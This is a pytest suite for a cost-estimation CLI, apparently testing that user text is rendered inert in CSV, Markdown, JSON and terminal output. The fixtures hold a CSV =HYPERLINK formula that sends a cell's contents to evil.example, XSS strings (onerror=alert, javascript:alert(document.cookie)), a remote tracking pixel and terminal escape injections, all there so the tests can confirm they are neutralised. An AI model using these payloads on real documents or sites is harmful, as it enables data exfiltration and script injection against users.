"""User text made safe to show: CSV cells inert, Markdown text as text, control, bidi and
format characters escaped, ASCII where needed (escape codes on terminals: test_shell)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import Run

from dprk_ru.core.text import FORMULA_STARTS, inert, markdown_inert, printable


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    """A scenario whose names hold an ESC sequence, a newline, a BEL and a bidi override."""
    f = tmp_path / "evil.toml"
    f.write_text('name = "red\\u001b[31mX\\nline2"\n[[contingents]]\nname = "c\\u0007\\u202e"\n'
                 "troops = 100\n")  # fmt: skip
    return f


@pytest.mark.parametrize(
    ("text", "shown"),
    [("plain", "plain"), ("a\x1b[31mb", "a\\x1b[31mb"), ("two\nlines\r\tx", "two\\nlines\\r\\tx"),
     ("\x00\x7f\x9b", "\\x00\\x7f\\x9b"), ("rtl\u202eevil\u2028", "rtl\\u202eevil\\u2028"),
     ("Kursk – 2024 é", "Kursk – 2024 é")],
)  # fmt: skip
def test_printable(text: str, shown: str) -> None:
    """Control characters become visible escapes; other text, accents and dashes included,
    is left alone."""
    assert printable(text) == shown


def test_control_characters_escaped_in_csv_markdown_and_tables(run: Run, evil: Path) -> None:
    """CSV, Markdown and the table show the names with escapes: one line per record, no
    raw control character."""
    name = "red\\x1b[31mX\\nline2"
    csv = run("estimate", "-s", str(evil), "-f", "csv")
    assert csv.exit_code == 0
    assert csv.stdout.splitlines()[1].startswith(f"{name},c\\x07\\u202e,100,2000,")
    assert csv.stdout.count("\n") == 2
    md = run("estimate", "-s", str(evil), "-f", "markdown").stdout
    # Markdown also escapes the backslash and the bracket the escapes show, to show them.
    shown = markdown_inert("red\x1b[31mX\nline2")
    assert shown == "red\\\\x1b\\[31mX\\\\nline2"
    assert md.splitlines()[2].startswith(f"| {shown} | c\\\\x07\\\\u202e | 100 |")
    for args in (["estimate", "-f", "table"], ["compare", "-f", "table"]):
        out = run(*(["compare", str(evil), "-f", "table"] if args[0] == "compare" else
                    ["estimate", "-s", str(evil), "-f", "table"])).stdout  # fmt: skip
        assert name in out.replace("\n", "") or "red\\x1b[31mX\\nli" in out, out
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", out), args


def test_json_keeps_the_exact_name(run: Run, evil: Path) -> None:
    """JSON is data: the name comes back exactly (JSON escapes control characters itself)."""
    r = run("estimate", "-s", str(evil), "-f", "json")
    assert '"red\\u001b[31mX\\nline2"' in r.stdout
    assert json.loads(r.stdout)[0]["scenario"] == "red\x1b[31mX\nline2"


def test_error_line_escapes_control_characters(run: Run, tmp_path: Path) -> None:
    """An unknown TOML key holding ESC is named in one line, the ESC shown as \\x1b."""
    f = tmp_path / "k.toml"
    f.write_text('name = "k"\n"bad\\u001b[31mkey\\nx" = 1\n[[contingents]]\ntroops = 1\n')
    r = run("estimate", "-s", str(f))
    assert r.exit_code == 2
    assert r.stderr.count("\n") == 1 and "\x1b" not in r.stderr
    assert "bad\\x1b[31mkey\\nx" in r.stderr


def test_markup_in_names_is_text(run: Run, tmp_path: Path) -> None:
    """Square brackets in a name are text, never rich markup (a closing tag raised a
    MarkupError traceback)."""
    f = tmp_path / "m.toml"
    f.write_text('name = "[/bold] x [red]r"\n[[contingents]]\nname = "[b]c"\ntroops = 100\n')
    for args in (["estimate", "-s", str(f)], ["compare", str(f)],
                 ["simulate", "-s", str(f), "--samples", "10", "--seed", "1"]):  # fmt: skip
        r = run(*args, "-f", "table")
        assert r.exit_code == 0, r.output
        assert "[/bold] x [red]r" in r.stdout, args


def test_ascii_terminal_gets_an_ascii_table() -> None:
    """With an ASCII-only output (PYTHONIOENCODING=ascii) tables are drawn in ASCII: the
    bars as #, the boxes as + - |, exit 0."""
    env = {**os.environ, "PYTHONIOENCODING": "ascii", "NO_COLOR": "1", "COLUMNS": "140"}
    r = subprocess.run([sys.executable, "-m", "dprk_ru", "compare", "-f", "table"],
                       capture_output=True, env=env)  # fmt: skip
    assert r.returncode == 0, r.stderr
    r.stdout.decode("ascii")
    assert re.search(
        rb"\nKursk, 2024 \(kursk-2024\) +\|12,000 \|\$288\.0M \|\$24\.0M \| \$0\.00 "
        rb"\|\$312\.0M \|######## +\| "
        rb"\+\$52\.0M \|",
        r.stdout,
    )


def test_ascii_output_cannot_carry_data_one_line(tmp_path: Path) -> None:
    """A name the output encoding cannot write: a table shows it escaped; CSV, which must
    not change data, stops with one line and exit 1."""
    f = tmp_path / "u.toml"
    f.write_text('name = "Kursk – 2024 é"\n[[contingents]]\ntroops = 1\n', encoding="utf-8")
    env = {**os.environ, "PYTHONIOENCODING": "ascii", "NO_COLOR": "1", "COLUMNS": "100"}
    table = subprocess.run([sys.executable, "-m", "dprk_ru", "compare", str(f), "-f", "table"],
                           capture_output=True, text=True, env=env)  # fmt: skip
    assert table.returncode == 0 and "Kursk - 2024 \\xe9" in table.stdout
    csv = subprocess.run([sys.executable, "-m", "dprk_ru", "compare", str(f), "-f", "csv"],
                         capture_output=True, text=True, env=env)  # fmt: skip
    assert csv.returncode == 1
    # stderr writes what ASCII lacks as a backslash escape, as Python does for stderr
    assert csv.stderr == (
        "Error: the output encoding (ascii) cannot write '\\u2013'; set PYTHONIOENCODING=utf-8\n"
    )


@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_explain_escapes_control_characters(run: Run, evil: Path, fmt: str) -> None:
    """`explain` shows the names escaped in text and Markdown, as every renderer does."""
    r = run("explain", "-s", str(evil), "-f", fmt)
    assert r.exit_code == 0
    shown = markdown_inert if fmt == "markdown" else printable
    assert shown("red\x1b[31mX") in r.stdout and shown("c\x07\u202e") in r.stdout
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", r.stdout)


@pytest.mark.parametrize("name", ["brief.md", "brief.html"])
def test_report_escapes_control_characters(run: Run, evil: Path, tmp_path: Path, name: str) -> None:
    """A brief written from a file with control characters in its names holds none raw."""
    out = tmp_path / name
    r = run("report", "-s", str(evil), "-o", str(out))
    assert r.exit_code == 0, r.output
    text = out.read_text()
    assert "x1b" in text and "red\x1b" not in text
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text)


def test_readable_numbers() -> None:
    """Markdown's number formats: separators, $ before money with two places of cents where
    there are any, the sign before the $; anything else as it is."""
    from dprk_ru.core.money import DOLLARS, GROUPED

    assert DOLLARS("260000000") == "$260,000,000"
    assert DOLLARS("-1999.5") == "-$1,999.50" and DOLLARS("0.05") == "$0.05"
    assert GROUPED("1234567.125") == "1,234,567.125" and GROUPED("0.9") == "0.9"
    assert DOLLARS("") == "" and GROUPED("8000 to 9000") == "8000 to 9000"


BIDI = 'name = "n\\u202ex\\u200by\\ufeff"\n[[contingents]]\nname = "a\\u061c"\ntroops = 5\n'


SOURCES = """name = "links"
[[contingents]]
name = "c"
troops = "1000 to 2000"
[[sources]]
title = "script"
url = "javascript:alert(1)"
[[sources]]
title = "tag"
url = "http://x<img/>"
[[sources]]
title = "ends"
url = "http://a b)c\\n# h"
"""


def _tokens(markdown: str) -> list[tuple[str, str]]:
    from markdown_it import MarkdownIt
    from markdown_it.token import Token

    def walk(tokens: list[Token]) -> list[Token]:
        return [x for t in tokens for x in [t, *walk(t.children or [])]]

    md = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    # an href is text (attrGet is typed for any attribute: str, int or float)
    return [(t.type, str(t.attrGet("href") or t.content)) for t in walk(md.parse(markdown))]


def test_text_options_must_be_utf8_and_paths_show_their_bytes() -> None:
    """Non-UTF-8 bytes in --title or --date are one line naming the option and the bytes
    (no traceback from the chart's font, no PYTHONIOENCODING advice); a path with such
    bytes is used as given, and an error shows its bytes as \\xff."""
    import os
    import subprocess
    import sys

    def run(*args: bytes) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([sys.executable.encode(), b"-m", b"dprk_ru", *args],
                              capture_output=True, timeout=60)  # fmt: skip

    for args in ([b"sweep", b"--troops", b"1,2", b"-f", b"csv", b"--plot", b"/tmp/x.svg",
                  b"--title", b"\xff\xfe bad"],
                 [b"report", b"-o", b"/dev/null", b"--date", b"\xff"]):  # fmt: skip
        r = run(*args)
        assert r.returncode == 2 and r.stdout == b""
        assert r.stderr.count(b"\n") == 1 and b"not UTF-8 text (the bytes \\xff" in r.stderr
    missing = os.fsdecode(b"/nonexistent/\xff.toml")
    r = run(b"estimate", b"-s", os.fsencode(missing))
    assert r.returncode == 2 and b"'/nonexistent/\\xff.toml'" in r.stderr


def test_error_lines_are_bounded(run: Run) -> None:
    """A 5,000-digit value is quoted in part: the error line stays under 400 characters."""
    r = run("estimate", "--monthly-pay", "9" * 5000)
    assert r.exit_code == 2 and r.stderr.count("\n") == 1 and len(r.stderr) <= 401
    assert "characters in all" in r.stderr


def test_error_lines_quote_80_characters_of_a_value(run: Run, tmp_path: Path) -> None:
    """A bad value is quoted to its first 80 characters and counted (it was quoted to about
    290, then the whole line counted): in an option, in a scenario file's field and key."""
    r = run("estimate", "--troops", "9" * 5000)
    assert r.exit_code == 2 and r.stderr == (
        "Error: --troops: expected a whole number from 0 to 10,000,000, got "
        f"'{'9' * 80}...' (5,000 characters in all)\n"
    )
    f = tmp_path / "long.toml"
    f.write_text(f'name = "n"\n[[contingents]]\ntroops = 5\n{"k" * 300} = 1\n')
    r = run("estimate", "-s", str(f))
    assert r.exit_code == 2 and r.stderr == (
        f"Error: --scenario: {f}: contingents[0]: unknown field '{'k' * 80}...' "
        "(300 characters in all)\n"
    )
    f.write_text(f'[[contingents]]\ntroops = "{"8" * 3000}"\n')
    r = run("estimate", "-s", str(f))
    assert r.exit_code == 2 and r.stderr == (
        f"Error: --scenario: {f}: contingents[0].troops: expected a whole number from 0 to "
        f"10,000,000, got '{'8' * 80}...' (3,000 characters in all)\n"
    )


def test_clip_quoted_keeps_short_values_and_apostrophes() -> None:
    """Only a quoted value longer than 80 characters is cut; an apostrophe in a word is not
    a quote, and an escape is not cut in half."""
    from dprk_ru.core.text import clip_quoted

    assert clip_quoted("the file's name 'abc'") == "the file's name 'abc'"
    path = "'/tmp/" + "p" * 100 + "/c.png'"
    assert clip_quoted(f"cannot write {path}") == f"cannot write {path}"  # a path stays whole
    long = "it's " * 40
    assert clip_quoted(f'got "{long}"') == f'got "{long[:80]}..." (200 characters in all)'
    assert clip_quoted("'" + "a" * 79 + "\\x1b'") == "'" + "a" * 79 + "...' (83 characters in all)"


def test_json_escapes_bidi_and_format_characters(run: Run, tmp_path: Path) -> None:
    """JSON writes U+202E, U+200B, U+FEFF and U+061C as \\u escapes (it wrote them raw), and
    reads back to the same text."""
    import json

    f = tmp_path / "bidi.toml"
    f.write_text(BIDI)
    for fmt in ("json", "jsonl"):
        r = run("estimate", "-s", str(f), "-f", fmt)
        assert r.exit_code == 0, r.stderr
        assert '"scenario": "n\\u202ex\\u200by\\ufeff"' in r.stdout
        assert '"contingent": "a\\u061c"' in r.stdout
        assert not any(ch in r.stdout for ch in "\u202e\u200b\ufeff\u061c")
        (row,) = json.loads(r.stdout) if fmt == "json" else [json.loads(r.stdout)]
        assert (row["scenario"], row["contingent"]) == ("n\u202ex\u200by\ufeff", "a\u061c")


def test_zero_width_and_byte_order_marks_are_shown(run: Run, tmp_path: Path) -> None:
    """A table, CSV and an error show U+200B, U+FEFF and U+061C as escapes, as they show
    U+202E: an invisible character cannot hide in a name."""
    f = tmp_path / "bidi.toml"
    f.write_text(BIDI)
    r = run("estimate", "-s", str(f), "-f", "csv")
    assert r.stdout.splitlines()[1].startswith("n\\u202ex\\u200by\\ufeff,a\\u061c,5,")
    r = run("estimate", "-s", str(f), "--contingent", "b\u200b")
    assert r.exit_code == 2 and "b\\u200b" in r.stderr and "\u200b" not in r.stderr


def test_source_addresses_in_markdown_stay_addresses(run: Run, tmp_path: Path) -> None:
    """explain's Markdown wrote a source's address as <url> whatever it was: a scenario
    file's javascript:alert(1) became a link and http://x<img/> raw HTML. Now only http(s)
    addresses are links, in explain and in the brief, with what would end the address or
    open HTML in it percent-encoded."""
    f = tmp_path / "links.toml"
    f.write_text(SOURCES)
    out = tmp_path / "b.md"
    r = run("report", "-s", str(f), "-n", "20", "-o", str(out))
    assert r.exit_code == 0, r.stderr
    for text in (run("explain", "-s", str(f), "-f", "markdown").stdout, out.read_text()):
        tokens = _tokens(text)
        hrefs = [c for t, c in tokens if t == "link_open"]
        html = [c for t, c in tokens if t.startswith("html")]
        assert "http://x%3Cimg/%3E" in hrefs and "http://a%20b%29c%0A#%20h" in hrefs, hrefs
        assert all(h.startswith(("http", "#source-")) for h in hrefs), hrefs
        assert all(h.startswith(('<a id="source-', "</a>")) for h in html), html
        assert "javascript:alert(1)" in text  # shown, as text


def test_table_medians_line_shows_names_escaped(run: Run, tmp_path: Path) -> None:
    """estimate's table said "At the medians of ..." with a contingent's U+202E raw."""
    f = tmp_path / "m.toml"
    f.write_text('name = "m"\n[[contingents]]\nname = "\\u202eX"\ntroops = "1000 to 2000"\n')
    r = run("estimate", "-s", str(f), "-f", "table")
    assert r.exit_code == 0, r.stderr
    assert "At the median of \\u202eX.troops" in r.stdout and "\u202e" not in r.stdout


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ('[[contingents]]\ntroops = 1\n[[contingents]]\nname = "contingent-1"\ntroops = 2\n',
         "contingents[0] and contingents[1] are both named 'contingent-1' (a contingent "
         "without a name is contingent-N, by its place)"),
        ('[[contingents]]\nname = "A"\ntroops = 1\n[[contingents]]\nname = "a "\ntroops = 1\n',
         "contingents[0] and contingents[1] are named 'A' and 'a '"),
        ('[[contingents]]\nname = " Total "\ntroops = 1\n',
         "contingents[0].name: ' Total ' is reserved for the total row"),
    ],
    ids=["unnamed", "case and spaces", "total"],
)  # fmt: skip
def test_names_a_reader_cannot_tell_apart(run: Run, tmp_path: Path, body: str, says: str) -> None:
    f = tmp_path / "d.toml"
    f.write_text('name = "x"\n' + body)
    r = run("estimate", "-s", str(f))
    assert r.exit_code == 2 and says in r.stderr and r.stderr.count("\n") == 1


EVIL = """name = "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"
[[contingents]]
name = "@SUM(1)"
troops = "1000 to 2000"
[[contingents]]
name = "-x"
troops = 5
killed = 1
death_payment_usd = 1000
"""


MD_EVIL = """name = "<img src=x onerror=alert(1)>"
description = "[x](javascript:alert(3)) **bold** <javascript:alert(document.cookie)>"
[[contingents]]
name = "**x**"
troops = 1000
note = "![remote](http://evil.example/pixel.png) `code` _em_ ~~~"
"""


def _html(markdown: str) -> str:
    from markdown_it import MarkdownIt

    html: str = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)
    return html


LINE_STARTS = ["---", "-----", " ---", "===", "- - -", "+ x", "1. x", "1) x"]


@pytest.mark.parametrize(
    "args",
    [["estimate"], ["compare"], ["simulate", "-n", "3", "--seed", "1"], ["sensitivity"],
     ["solve", "--for", "bonus", "--target", "50M"], ["samples"]],
    ids=lambda a: a[0],
)  # fmt: skip
def test_csv_text_cells_are_inert(run: Run, tmp_path: Path, args: list[str]) -> None:
    """No CSV cell the tool writes from user text starts a formula (OWASP: a leading ' for
    = + - @, tab, CR), in estimate, compare, simulate, --samples-out, sensitivity and
    solve; numbers stay numbers (a negative delta is still -...)."""
    f = tmp_path / "evil.toml"
    f.write_text(EVIL)
    if args[0] == "samples":
        out = tmp_path / "draws.csv"
        r = run("simulate", "-s", str(f), "-n", "3", "--seed", "1", "--samples-out", str(out),
                "-o", str(tmp_path / "sum.csv"))  # fmt: skip
        text = out.read_text()
    else:
        where = [str(f)] if args[0] == "compare" else ["-s", str(f)]
        r = run(args[0], *where, *args[1:], "-f", "csv")
        text = r.stdout
    assert r.exit_code == 0, r.stderr
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    texts = [c for c in cells if not c.replace(".", "").replace("-", "").isdigit()]
    assert texts and not any(c.startswith(FORMULA_STARTS) for c in texts)
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells)


def test_negative_numbers_stay_numbers(run: Run) -> None:
    """compare's delta against a larger first scenario is a plain negative number."""
    r = run("compare", "kursk-2024", "shoigu-2025", "-f", "csv")
    (_, second) = list(csv.DictReader(io.StringIO(r.stdout)))
    assert second["delta_usd"] == "-156000000"


def test_inert_rules() -> None:
    """Each formula start gets a leading quote; other text is untouched."""
    for start in FORMULA_STARTS:
        assert inert(f"{start}1+1") == f"'{start}1+1"
    assert inert("kursk") == "kursk" and inert("") == ""


@pytest.mark.parametrize(
    "args",
    [["estimate", "-f", "markdown"], ["compare", "-f", "markdown"],
     ["explain", "--format", "markdown"]],
    ids=lambda a: a[0],
)  # fmt: skip
def test_markdown_user_text_stays_text(run: Run, tmp_path: Path, args: list[str]) -> None:
    """Rendered by a CommonMark renderer, no user text becomes an element or a link it did
    not mean: no <img>, <strong>, <em>, <code>, <del>, no javascript: link, no raw HTML."""
    f = tmp_path / "md.toml"
    f.write_text(MD_EVIL)
    where = [str(f)] if args[0] == "compare" else ["-s", str(f)]
    r = run(args[0], *where, *args[1:])
    assert r.exit_code == 0, r.stderr
    html = _html(r.stdout)
    made = ("<img", "<strong>x</strong>", "<strong>bold</strong>", "<em>em</em>",
            "<code>code</code>", "<del>", 'href="javascript', "<javascript")  # fmt: skip
    for tag in made:
        assert tag not in html, tag
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_brief_headings_survive_any_title_or_date(run: Run, tmp_path: Path) -> None:
    """`--date '~~~'` no longer turns the rest of the Markdown brief into a code block, and a
    title of '# x' stays one heading."""
    out = tmp_path / "b.md"
    r = run("report", "--title", "# x *y*", "--date", "~~~", "-o", str(out))
    assert r.exit_code == 0, r.stderr
    html = _html(out.read_text())
    plain = tmp_path / "plain.md"
    assert run("report", "--date", "2026-01-01", "-o", str(plain)).exit_code == 0
    want = _html(plain.read_text())
    assert html.count("<h2>") == want.count("<h2>") >= 4  # every section still a heading
    assert html.count("<pre>") == want.count("<pre>")  # only the command to reproduce it
    assert html.count("<h1>") == 1 and "<em>" not in html.split("</h1>")[0]


@pytest.mark.parametrize("text", LINE_STARTS)
def test_markdown_inert_keeps_line_starts_as_text(text: str) -> None:
    """A date or title that is a thematic break (`---`), a setext underline (`===`) or a list
    marker (`+ x`, `1. x`, `1) x`) renders as the same text, in the paragraph it follows."""
    html = _html("The figure.\n" + markdown_inert(text) + "\n")
    assert html == f"<p>The figure.\n{text.strip()}</p>\n"


def test_markdown_inert_escapes_only_the_rule() -> None:
    """Only the first character of a line of `-` or `=` gets a backslash; ordinary text
    with dashes keeps none."""
    assert markdown_inert("---") == "\\---" and markdown_inert(" ===") == " \\==="
    assert markdown_inert("- - -") == "\\- - -" and markdown_inert("1) x") == "1\\) x"
    for text in ("2026-01-01", "a - b", "x ---", "-- x", "-1", "=x"):
        assert markdown_inert(text) == text


@pytest.mark.parametrize("text", LINE_STARTS)
def test_brief_shows_a_rule_like_date_and_title(run: Run, tmp_path: Path, text: str) -> None:
    """`report --date '---'` keeps its date as a paragraph (it was an <hr />); as a title
    each value is the one <h1>'s text."""
    out = tmp_path / "b.md"
    r = run("report", "--title", text, "--date", text, "-o", str(out))
    assert r.exit_code == 0, r.stderr
    html = _html(out.read_text())
    plain = tmp_path / "plain.md"
    assert run("report", "--date", "2026-01-01", "-o", str(plain)).exit_code == 0
    want = _html(plain.read_text())
    assert html.count("<hr />") == want.count("<hr />")
    assert html.count("<h2>") == want.count("<h2>") >= 4
    assert html.count("<ol") == want.count("<ol") and html.count("<ul>") == want.count("<ul>")
    assert html.startswith(f"<h1>{text.strip()}</h1>\n")
    assert f"a month on average.</p>\n<p>{text.strip()}</p>\n<h2>" in html
